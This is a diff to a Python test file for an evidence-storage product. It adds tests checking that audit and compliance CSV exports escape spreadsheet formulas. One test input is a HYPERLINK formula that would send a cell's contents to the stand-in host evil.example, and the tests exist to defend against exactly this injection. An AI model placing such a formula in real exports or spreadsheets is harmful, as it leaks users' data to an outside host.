@@ -7,6 +7,8 @@ SVG file with script in them); the API and the pages served by TestClient as
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import uuid
 from collections.abc import Iterator
@@ -21,8 +23,10 @@ from sqlalchemy import select
 
 from chain.entries import decode
 from evidock import settings as settings_mod
+from evidock import spreadsheet
 from evidock.api.factory import create_app
 from evidock.app import App, open_app, retention_context
+from evidock.cli import main
 from evidock.keys import init_key
 from evidock.login_backoff import Backoff
 from evidock.settings import Settings
@@ -31,7 +35,7 @@ from storage import access, journal
 from storage.access import Person, Role
 from storage.catalog import log_entries
 from tests import media
-from tests.conftest import add_people, add_person, dock, raw_config, staff, station_env, write_config
+from tests.conftest import add_people, add_person, dock, raw_config, staff, station_env, use, write_config
 
 pytestmark = pytest.mark.s3
 
@@ -328,3 +332,46 @@ def _csrf(html: str) -> str:
     found = re.search(r'name="csrf" value="([^"]+)"', html)
     assert found is not None
     return found.group(1)
+
+
+# -- 4. no CSV cell the product writes can start a formula --------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
+
+
+def test_a_formula_typed_as_a_reason_is_text_in_every_audit_csv(
+    world: World, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    looked = world.get("o1", f"/api/v1/recordings/{world.video}", params={"reason": FORMULA})
+    assert looked.status_code == 200, looked.text
+    api = world.get("a1", "/api/v1/audit/access", params={"format": "csv", "reason": "audit"})
+    assert api.status_code == 200, api.text
+    pages = world.web("a1")
+    web = pages.get("/audit.csv")
+    assert web.status_code == 200, web.text[:300]
+    use(monkeypatch, "a1", world.tokens["a1"])
+    assert main(["--config", str(world.settings.source), "audit", "access", "--csv"]) == 0
+    cli = capsys.readouterr().out
+    for where, text in (("api", api.text), ("web", web.text), ("cli", cli)):
+        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
+        assert "'" + FORMULA in cells, where
+        assert not any(c.startswith(spreadsheet.FORMULA_STARTS) for c in cells), where
+
+
+def test_a_formula_as_a_case_number_is_text_in_the_compliance_csv(
+    world: World, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    labelling.label(
+        retention_context(world.evi),
+        [world.html],
+        case_number="=1+1",
+        parties=["@李四"],
+        handler="-赵六",
+        by="c1",
+        now=world.evi.now(),
+    )
+    use(monkeypatch, "c1", world.tokens["c1"])
+    assert main(["--config", str(world.settings.source), "compliance", "--csv"]) == 0
+    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out, newline="")) for c in row]
+    assert "'=1+1" in cells
+    assert not any(c.startswith(spreadsheet.FORMULA_STARTS) for c in cells)
